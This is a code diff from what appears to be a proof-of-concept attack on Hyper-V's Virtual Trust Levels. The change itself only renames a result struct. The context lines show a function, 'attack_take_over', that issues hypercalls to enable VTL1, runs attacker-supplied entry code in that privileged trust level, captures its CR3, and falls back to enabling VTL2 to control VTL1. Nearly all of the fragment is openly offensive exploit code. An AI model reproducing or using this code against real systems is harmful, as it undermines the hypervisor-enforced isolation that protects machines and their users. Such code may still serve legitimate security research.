@@ -16,7 +16,7 @@
 /* attack_entry.S: entry of VTL1. It reads the input below and fills in the result. */
 void attack_entry(void);
 extern u64 attack_entry_hypercall_msr, attack_entry_return;
-extern struct attack_spoils attack_entry_spoils;
+extern struct attack_captured attack_entry_captured;
 
 static u8 stack[1024] __aligned(16);
 
@@ -92,7 +92,7 @@ static void enter(void *call_stub)
 		     : "rax", "rdx", "rdi", "memory", "cc");
 }
 
-const struct attack_spoils *attack_take_over(void)
+const struct attack_captured *attack_take_over(void)
 {
 	void *call_stub = attack_vtl_call_stub();
 	unsigned long flags;
@@ -107,7 +107,7 @@ const struct attack_spoils *attack_take_over(void)
 		tries.enable = start(HVCALL_ENABLE_VP_VTL, HV_VP_INDEX_SELF);
 		if (hv_result_success(tries.enable))
 			enter(call_stub);
-		tries.entered = attack_entry_spoils.cr3;
+		tries.entered = attack_entry_captured.cr3;
 		/* VTL2 would control VTL1. */
 		if (!tries.entered)
 			tries.partition_vtl2 = enable_partition(2);
@@ -122,7 +122,7 @@ const struct attack_spoils *attack_take_over(void)
 		}
 		local_irq_restore(flags);
 	}
-	return tries.entered ? &attack_entry_spoils : NULL;
+	return tries.entered ? &attack_entry_captured : NULL;
 }
 
 /* Without VTL1: the attacker's own code has run there. */
